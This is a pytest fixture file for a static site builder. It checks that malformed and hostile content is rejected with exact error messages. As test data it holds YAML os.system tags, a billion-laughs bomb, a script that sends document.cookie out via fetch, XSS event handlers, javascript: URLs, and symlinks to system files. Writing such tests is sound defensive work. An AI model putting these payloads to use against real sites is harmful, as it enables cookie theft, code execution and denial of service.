"""One fixture per entry of the bad-input catalogue (/work/shared/bad-inputs.md, section b).

Each case is a txtar archive written over the minimal valid site: the files that go
wrong, `-- want --` with the exact problem lines the build prints, and optionally
`-- args --`. The runner builds the good site first, applies the case, runs the CLI
in-process and asserts the exit code, the lines, no traceback, and that the previous
output folder is byte-identical (and that nothing was left beside it).
"""
from __future__ import annotations

import os
import shutil
import textwrap
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
from bs4 import BeautifulSoup

from site_builder.cli import main

from ..conftest import MINIMAL, TEMPLATES, write_tree
from ..txtar import parse_txtar

PATHS = ["--content", "content", "--templates", "templates", "--out", "_site"]


@dataclass(frozen=True)
class Case:
    entry: str                                   # catalogue number, e.g. "B1.1"
    archive: str                                 # txtar: files, `-- want --`, optional `-- args --`
    exit: int = 1
    setup: Callable[[Path], None] | None = None  # bytes, symlinks, sparse files: what txtar cannot hold
    check: Callable[[Path], None] | None = None  # facts about the built site when the build succeeds


def page(root: Path, *parts: str) -> BeautifulSoup:
    return BeautifulSoup((root / "_site" / Path(*parts) / "index.html").read_text(encoding="utf-8"), "html.parser")


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


TALKS = MINIMAL["meetings/talks.yaml"]


def talks(**changes: str) -> str:
    """The minimal meeting with some lines replaced: talks(date="date: x")."""
    lines = textwrap.dedent(TALKS).strip("\n").splitlines()
    for key, line in changes.items():
        lines = [line if text.startswith(f"{key}:") else text for text in lines]
    return "\n".join(lines) + "\n"


def write_bytes(name: str, data: bytes) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        (root / name).write_bytes(data)
    return setup


def symlink(name: str, target: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, root / name)
    return setup


def sparse(name: str, size: int) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        with open(root / name, "wb") as handle:
            handle.truncate(size)
    return setup


def both(*setups: Callable[[Path], None]) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        for step in setups:
            step(root)
    return setup


CASES: list[Case] = []


def case(entry: str, archive: str, **options) -> None:
    CASES.append(Case(entry, textwrap.dedent(archive).lstrip("\n"), **options))


def meeting(archive_want: str, **changes: str) -> str:
    """An archive whose meeting file is the minimal one with `changes`, then archive_want."""
    return "-- content/meetings/talks.yaml --\n" + talks(**changes) + textwrap.dedent(archive_want).lstrip("\n")


# B1. YAML syntax, typing and structure -------------------------------------------------

case("B1.1 unsafe tag", """
    -- content/people/x.yaml --
    x: !!python/object/apply:os.system ['id']
    -- content/people/y.yaml --
    name: !!python/name:os.system
    -- want --
    content/people/x.yaml:1:4: x: explicit tags are not allowed (found tag:yaml.org,2002:python/object/apply:os.system) (includes and custom types are not supported)
    content/people/y.yaml:1:7: name: explicit tags are not allowed (found tag:yaml.org,2002:python/name:os.system) (includes and custom types are not supported)
""")
case("B1.2 duplicate key", """
    -- content/people/wang-yi.yaml --
    name: Wang Yi
    role: FM
    name: Wang Xiaohong
    country: China
    summary: Foreign Minister.
    -- want --
    content/people/wang-yi.yaml:3:1: name: duplicate key (first defined on line 1)
""")


def _shown(root: Path, folder: str, entity_id: str) -> str:
    """The text of an entity's page (wherever the layout puts each field)."""
    return " ".join(page(root, folder, entity_id).find("main").get_text(" ").split())


def _norway_kept(root: Path) -> None:
    text = _shown(root, "people", "wang-yi")
    assert "010" in text and " NO" in text and "True" not in text and " 8 " not in text


case("B1.3 Norway: plain values stay strings", """
    -- content/people/wang-yi.yaml --
    name: Wang Yi
    role: 010
    country: NO
    summary: Foreign Minister.
    -- want --
""", exit=0, check=_norway_kept)
CASES.append(Case("B1.3 booleans are not choices; boolean-looking keys are unknown fields", meeting("""
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: Precursor chemicals.
    sources: [src-a]
    yes: true
    -- want --
    content/issues/fentanyl.yaml:4:1: yes: unknown field 'yes' for a issue (fields are: body, corrections, draft, positions, related, sources, summary, title)
    content/meetings/talks.yaml:4:9: status: expected one of held, scheduled, expected, cancelled, got 'on' (one of: held, scheduled, expected, cancelled)
""", status="status: on")))
case("B1.5 octal, phone and version numbers stay text", """
    -- content/people/wang-yi.yaml --
    name: Wang Yi
    role: 010
    country: NO
    organization: +8610 6596 1114
    native_name: 1.10
    native_lang: 0_1
    summary: Foreign Minister.
    -- want --
""", exit=0, check=lambda root: _octal_kept(root))


def _octal_kept(root: Path) -> None:
    text = _shown(root, "people", "wang-yi")
    assert all(value in text for value in ("010", "NO", "+8610 6596 1114", "1.10"))


CASES.append(Case("B1.6 one format per field; IANA zones only", meeting("""
    -- want --
    content/meetings/talks.yaml:2:7: date: expected a date as YYYY-MM-DD, got '2024-04-26T15:00:00+08:00'
    content/meetings/talks.yaml:4:7: time: expected a time as HH:MM, got '15:00 CST'
    content/meetings/talks.yaml:5:11: timezone: unknown time zone 'CST' (use an IANA name such as 'Asia/Shanghai' or 'America/New_York')
""", date="date: 2024-04-26T15:00:00+08:00", location="location: Beijing\ntime: 15:00 CST\ntimezone: CST")))
CASES.append(Case("B1.7 impossible date", meeting("""
    -- want --
    content/meetings/talks.yaml:2:7: date: day is out of range for month (got '2024-02-30')
""", date="date: 2024-02-30")))
CASES.append(Case("B1.9 unquoted colon", meeting("""
    -- want --
    content/meetings/talks.yaml:1:8: title: the value contains ': ', which YAML reads as a new field (put the whole value in quotes: title: "Blinken: talks with Wang Yi")
""", title="title: Blinken: talks with Wang Yi")))
case("B1.11 tabs", """
    -- content/people/wang-yi.yaml --
    name:\tWang Yi
    role: FM
    country: China
    summary: A tab after the colon is only a separator.
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: Precursor chemicals.
    sources:
    \t- src-a
    -- want --
    content/issues/fentanyl.yaml:4:1: sources: a tab is used to indent this line; YAML needs spaces (replace the tab with spaces: - src-a)
""")
case("B1.12 empty and comment-only files", """
    -- content/people/new.yaml --
    -- content/people/todo.yaml --
    # todo
    -- want --
    content/people/new.yaml:1:1: file is empty (expected a mapping with name, role, country, summary)
    content/people/todo.yaml:1:1: file is empty (expected a mapping with name, role, country, summary)
""")
case("B1.13 wrong top level", """
    -- content/people/list.yaml --
    - a
    - b
    -- content/people/word.yaml --
    hello
    -- want --
    content/people/list.yaml:1:1: top level must be a mapping of field: value
    content/people/word.yaml:1:1: top level must be a mapping of field: value
""")
BOMB = 'a: &a ["lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n" for i in range(8))
CASES.append(Case("B1.15 billion laughs", "-- content/people/x.yaml --\n" + BOMB + """-- want --
content/people/x.yaml:1:4: anchors (&a) are not allowed (repeat the value instead; 8 more anchors in this file)
content/people/x.yaml:2:8: aliases (*a) are not allowed (repeat the value instead; 23 more aliases in this file)
"""))
CASES.append(Case("B1.18 deep nesting", "-- content/people/x.yaml --\nx: " + "[" * 2000 + "]" * 2000
                  + "\n-- content/people/y.yaml --\nname:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 9))
                  + """-- want --
content/people/x.yaml:1:1003: x: YAML syntax error: nesting too deep (at most 6 levels)
content/people/y.yaml:8:15: name.k1.k2.k3.k4.k5.k6: nesting too deep
"""))
case("B1.19 huge file and over-long Markdown field", """
    -- want --
    content/people/big.yaml:1:1: file larger than 1000000 bytes
    content/people/long.yaml:4:10: summary: longer than 20000 characters
""", setup=both(write_bytes("content/people/big.yaml", b"name: x\nbody: |\n" + b"  transcript line\n" * 70_000),
                write_bytes("content/people/long.yaml", b"name: Long\nrole: r\ncountry: c\nsummary: "
                            + b"word " * 4001 + b"\n")))
case("B1.20 non-UTF-8 and UTF-16", """
    -- want --
    content/people/jose.yaml:1:10: not valid UTF-8 (invalid continuation byte at byte 9) (save the file as UTF-8)
    content/people/wide.yaml:1:1: file is UTF-16 (save it as UTF-8)
""", setup=both(write_bytes("content/people/jose.yaml", b"name: Jos\xe9\nrole: r\n"),
                write_bytes("content/people/wide.yaml", "name: Wang Yi\n".encode("utf-16")),
                write_bytes("content/people/wang-yi.yaml", "\ufeffname: Wang Yi\nrole: FM\ncountry: China\n"
                            "summary: Foreign Minister.\n".encode("utf-8"))))
case("B1.23 unknown key (typo)", """
    -- content/issues/fentanyl.yaml --
    titel: Fentanyl
    summary: Precursor chemicals.
    sources: [src-a]
    -- want --
    content/issues/fentanyl.yaml:1:1: titel: unknown field 'titel' for a issue (did you mean 'title'?)
""")
case("B1.24 required field empty or missing", """
    -- content/issues/fentanyl.yaml --
    title:
    summary: Precursor chemicals.
    sources: [src-a]
    -- content/people/wang-yi.yaml --
    name: Wang Yi
    country: China
    summary: Foreign Minister.
    -- want --
    content/issues/fentanyl.yaml:1:7: title: required field is empty (Name of the issue.)
    content/people/wang-yi.yaml:1:1: role: required field is missing (Role held at the time of the events.)
""")
case("B1.25 scalar where a list is expected", """
    -- content/meetings/talks.yaml --
    title: Talks in Beijing
    date: 2024-04-26
    location: Beijing
    status: held
    participants: Wang Yi
    summary: Talks.
    sources: [src-a]
    -- want --
    content/meetings/talks.yaml:5:15: participants: expected a list of person ids, got a string (write the ids as a list: participants: [wang-yi])
""")
case("B1.29 custom tags (includes)", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: Precursor chemicals.
    sources: [src-a]
    body: !include other.md
    -- want --
    content/issues/fentanyl.yaml:4:7: body: explicit tags are not allowed (found !include) (includes and custom types are not supported)
""")
case("B1.30 editors' stray files are ignored; any other file is an error", """
    -- content/people/wang-yi.yaml~ --
    name: [broken
    -- content/people/.wang-yi.yaml.swp --
    binary
    -- content/people/4913 --
    -- content/people/wang-yi.yaml___jb_tmp___ --
    x
    -- content/people/notes.txt --
    remember
    -- content/people/zhou.yml --
    name: Zhou
    -- want --
    content/people/notes.txt: unexpected file in content (people/ holds only <id>.yaml files)
    content/people/zhou.yml: unexpected file in content (rename it to .yaml)
""", setup=symlink("content/meetings/.#talks.yaml", "user@host.1234:1700000000"))

# B2. Cross-references and the content model ---------------------------------------------

CASES.append(Case("B2.31 dangling reference", meeting("""
    -- want --
    content/meetings/talks.yaml:10:21: summary: unknown id 'wang-yii' (did you mean 'wang-yi'?)
""", summary="summary: Talks with [[wang-yii]].")))
case("B2.31 dangling reference in a list", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: Precursor chemicals.
    sources: [src-a, src-b]
    -- want --
    content/issues/fentanyl.yaml:3:18: sources[1]: unknown source 'src-b' (did you mean 'src-a'?)
""")
case("B2.32 duplicate id across types", """
    -- content/issues/wang-yi.yaml --
    title: Wang Yi as an issue
    summary: x
    sources: [src-a]
    -- want --
    content/meetings/talks.yaml:7:5: participants[1]: 'wang-yi' is a issue, not a person
    content/people/wang-yi.yaml:1:1: id 'wang-yi' is already used by content/issues/wang-yi.yaml (ids must be unique across all content types)
""")
case("B2.33 case-only collision", """
    -- content/people/Wang-Yi.yaml --
    name: Wang Yi again
    role: r
    country: c
    summary: s
    -- want --
    content/people/Wang-Yi.yaml:1:1: file name: 'Wang-Yi' is not a valid id (use lowercase letters, digits and single hyphens, e.g. 'wang-yi')
""")
CASES.append(Case("B2.34 NFD file names are not ids", textwrap.dedent("""
    -- content/people/zho\u0301u.yaml --
    name: Zhou
    role: r
    country: c
    summary: s
    -- want --
    content/people/zhóu.yaml:1:1: file name: 'zhóu' is not a valid id (use lowercase letters, digits and single hyphens, e.g. 'wang-yi')
""").lstrip("\\n")))
case("B2.34 NFD text is normalised to NFC", """
    -- content/people/wang-yi.yaml --
    name: Wang Yi
    role: FM
    country: China
    native_name: Zho\u0301u
    summary: Foreign Minister.
    -- want --
""", exit=0, check=lambda root: _nfc(root))


def _nfc(root: Path) -> None:
    shown = page(root, "people", "wang-yi").h1.find("span").get_text()
    assert shown == "Zh\u00f3u" and unicodedata.is_normalized("NFC", shown)


case("B2.38 orphans warn", """
    -- content/people/nobody.yaml --
    name: Nobody
    role: r
    country: c
    summary: s
    -- want --
    content/people/nobody.yaml:1:1: warning: person 'nobody' is not linked from anywhere (link it, or remove the file)
""", exit=0)
case("B2.38 orphans fail under --strict", """
    -- content/people/nobody.yaml --
    name: Nobody
    role: r
    country: c
    summary: s
    -- args --
    --strict
    -- want --
    content/people/nobody.yaml:1:1: warning: person 'nobody' is not linked from anywhere (link it, or remove the file)
""")

# B3. Identifiers, paths and output files ------------------------------------------------

case("B3.39-41 ids come from file names; an id field is unknown", """
    -- content/people/x.yaml --
    id: ../../etc/x
    name: X
    role: r
    country: c
    summary: s
    -- content/sources/-.yaml --
    title: t
    publisher: p
    kind: press
    -- content/sources/con.yaml --
    title: t
    publisher: p
    kind: press
    -- want --
    content/people/x.yaml:1:1: id: unknown field 'id' for a person (fields are: body, corrections, country, draft, name, native_lang, native_name, organization, role, sources, summary)
    content/sources/-.yaml:1:1: file name: '-' is not a valid id (use lowercase letters, digits and single hyphens, e.g. 'wang-yi')
    content/sources/con.yaml:1:1: file name: 'con' is a reserved file name on Windows (choose another id)
""")
case("B3.46 symlink in content", """
    -- want --
    content/sources/leak.yaml: symlinks are not allowed in content
""", setup=symlink("content/sources/leak.yaml", "../../../etc/hostname"))
case("B3.46 symlink in static assets and templates", """
    -- want --
    templates/extra.html: symlinks are not allowed in templates (copy the file into the folder instead)
    templates/static/logo.png: symlinks are not allowed in static assets (copy the file into the folder instead)
""", setup=both(symlink("templates/static/logo.png", "../../../.git/config"),
                symlink("templates/extra.html", "/etc/hostname")))
case("B3.47 oversized asset", """
    -- want --
    templates/static/report.pdf: file is 96,000,000 bytes, more than 95,000,000 (GitHub refuses files over 100 MiB; link to it instead)
""", setup=sparse("templates/static/report.pdf", 96_000_000))

# B4. Markdown and HTML in content --------------------------------------------------------

case("B4.49 raw script", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: "Talks <script>fetch('//x/'+document.cookie)</script>"
    sources: [src-a]
    -- want --
    content/issues/fentanyl.yaml:2:17: summary: raw HTML <script> is not allowed (write Markdown; HTML is removed from the page)
""")
case("B4.50 event handlers", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: |
      An image <img src=x onerror=alert(1)>
      a drawing <svg onload=alert(1)>
      a link <a onclick="alert(1)">here</a>
    sources: [src-a]
    -- want --
    content/issues/fentanyl.yaml:3:12: summary: raw HTML <img> is not allowed (write Markdown; HTML is removed from the page)
    content/issues/fentanyl.yaml:4:13: summary: raw HTML <svg> is not allowed (write Markdown; HTML is removed from the page)
    content/issues/fentanyl.yaml:5:10: summary: raw HTML <a> is not allowed (write Markdown; HTML is removed from the page)
""")
case("B4.51 dangerous URLs", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: |
      [readout](javascript:alert(1)) and [x]( JaVaScRiPt:alert(1))
      and [y](jav&#x09;ascript:alert(1)) and ![img](javascript:alert(2))
      and [ref][1] and [data](data:text/html;base64,PHNjcmlwdD4=)
      and [plain](http://example.org/) but [fine](https://example.org/) [mail](mailto:a@b.org) [rel](/x/)

      [1]: javascript:alert(3)
    sources: [src-a]
    -- want --
    content/issues/fentanyl.yaml:3:13: summary: link 'readout' has an unsafe URL 'javascript:alert(1)' (only https, mailto and relative links are allowed)
    content/issues/fentanyl.yaml:3:43: summary: link 'x' has an unsafe URL 'JaVaScRiPt:alert(1)' (only https, mailto and relative links are allowed)
    content/issues/fentanyl.yaml:4:7: summary: link 'y' has an unsafe URL 'jav\\tascript:alert(1)' (only https, mailto and relative links are allowed)
    content/issues/fentanyl.yaml:4:49: summary: image 'img' has an unsafe URL 'javascript:alert(2)' (only https, mailto and relative links are allowed)
    content/issues/fentanyl.yaml:5:27: summary: link 'data' has an unsafe URL 'data:text/html;base64,PHNjcmlwdD4=' (only https, mailto and relative links are allowed)
    content/issues/fentanyl.yaml:6:15: summary: link 'plain' has an unsafe URL 'http://example.org/' (only https, mailto and relative links are allowed)
    content/issues/fentanyl.yaml:8:8: summary: link 'ref' has an unsafe URL 'javascript:alert(3)' (only https, mailto and relative links are allowed)
""")
case("B4.54 unbalanced HTML", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: Precursor chemicals.
    body: |
      Background.

      <div>unclosed
    sources: [src-a]
    -- want --
    content/issues/fentanyl.yaml:6:3: body: raw HTML <div> is not allowed (write Markdown; HTML is removed from the page)
""")
case("B4.57 the sanitizer keeps ids: every #fragment link has its target", """
    -- content/issues/fentanyl.yaml --
    title: Fentanyl
    summary: Precursor chemicals [[src-a]], see [the source list](#cite-src-a).
    sources: [src-a]
    -- want --
""", exit=0, check=lambda root: _fragments_resolve(root))


def _fragments_resolve(root: Path) -> None:
    soup = page(root, "issues", "fentanyl")
    ids = {tag["id"] for tag in soup.find_all(id=True)}
    fragments = [a["href"].split("#", 1)[1] for a in soup.find_all("a", href=True)
                 if "#" in a["href"] and a["href"].split("#")[0] in ("", "/repo/issues/fentanyl/")]
    assert fragments and all(fragment in ids for fragment in fragments)
    assert soup.find("sup", class_="cite").a["href"] == "/repo/issues/fentanyl/#cite-src-a"


CASES.append(Case("B4.59 pathological Markdown", "-- content/issues/fentanyl.yaml --\ntitle: Fentanyl\n"
                  "summary: \"" + "[" * 8000 + "\"\nsources: [src-a]\n" + r"""-- want --
content/issues/fentanyl.yaml:2:11: summary: more than 8 '[' open at once (unclosed or nested brackets) (close each bracket, or write it as \[ or \()
"""))
case("B4.60 |safe in a template", """
    -- templates/extra.html --
    <p>{{ person.name|safe }}</p>
    -- want --
    templates/extra.html:1:18: '|safe' is not allowed in templates (autoescape must stay on; only Markdown fields are HTML)
""")
case("B4.62 unquoted template attribute", """
    -- templates/extra.html --
    <img alt={{ p.name }} src="{{ p.href }}">
    -- want --
    templates/extra.html:1:6: attribute 'alt' has an unquoted value (write name="{{ value }}")
""")
case("B4.63 content is never compiled as a template", """
    -- content/issues/fentanyl.yaml --
    title: "{{ 7*7 }}"
    summary: "{{ lipsum(5) }} {% raw %}"
    sources: [src-a]
    -- want --
""", exit=0, check=lambda root: _literal_braces(root))


def _literal_braces(root: Path) -> None:
    soup = page(root, "issues", "fentanyl")
    assert soup.h1.get_text(strip=True) == "{{ 7*7 }}"
    assert "{{ lipsum(5) }} {% raw %}" in _shown(root, "issues", "fentanyl")


case("B4.64 template typo", """
    -- want --
    templates/issue.html:3:1: template error: 'dict object' has no attribute 'titel' (while rendering content/issues/fentanyl.yaml)
""", setup=lambda root: (root / "templates/issue.html").write_text(
    '{% extends "base.html" %}\n{% block main %}\n<h1>{{ page.entity.titel }}</h1>\n{% endblock %}\n'))


@pytest.mark.parametrize("item", CASES, ids=[c.entry for c in CASES])
def test_bad_input(item: Case, tmp_path: Path, monkeypatch, capfd) -> None:
    monkeypatch.chdir(tmp_path)
    write_tree(tmp_path / "content", MINIMAL)
    shutil.copytree(TEMPLATES, tmp_path / "templates")
    assert main(["build", *PATHS]) == 0
    capfd.readouterr()
    before = snapshot(tmp_path / "_site")
    files = parse_txtar(item.archive)
    want = files.pop("want", "").splitlines()
    args = files.pop("args", "").split()
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    if item.setup:
        item.setup(tmp_path)
    code = main(["build", *PATHS, *args])
    err = capfd.readouterr().err
    assert "Traceback" not in err
    lines = err.splitlines()
    if item.exit == 1:
        assert lines[-1].startswith("build failed: ") and lines[-1].endswith("; _site left unchanged")
        lines = lines[:-1]
        assert snapshot(tmp_path / "_site") == before
    assert (code, lines) == (item.exit, want)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != ".cache") == ["_site", "content", "templates"]
    if item.check:
        item.check(tmp_path)


# Every numbered entry of section (b) of the catalogue, and where it is tested when a
# txtar fixture cannot hold it (a path no file name can spell, or the validator switched off).
CATALOGUE = {1, 2, 3, 5, 6, 7, 9, 11, 12, 13, 15, 18, 19, 20, 23, 24, 25, 29, 30,
             31, 32, 33, 34, 38, 39, 40, 41, 44, 46, 47,
             49, 50, 51, 54, 57, 59, 60, 62, 63, 64, 66}
ELSEWHERE = {
    40: "test_hostile.py::test_write_time_path_check_refuses_escapes ('/etc/passwd')",
    41: "test_hostile.py::test_write_time_path_check_refuses_escapes ('', '.', '..')",
    44: "test_hostile.py::test_write_time_path_check_refuses_escapes (NUL); ids are file names",
    66: "test_hostile.py::test_hostile_snippets_never_reach_a_reader",
}


def test_every_catalogue_entry_has_a_fixture():
    covered = set()
    for item in CASES:
        numbers = item.entry.split()[0].split(".")[1]
        first, _, last = numbers.partition("-")
        covered.update(range(int(first), int(last or first) + 1))
    assert covered | set(ELSEWHERE) == CATALOGUE
    assert len(CATALOGUE) == 41
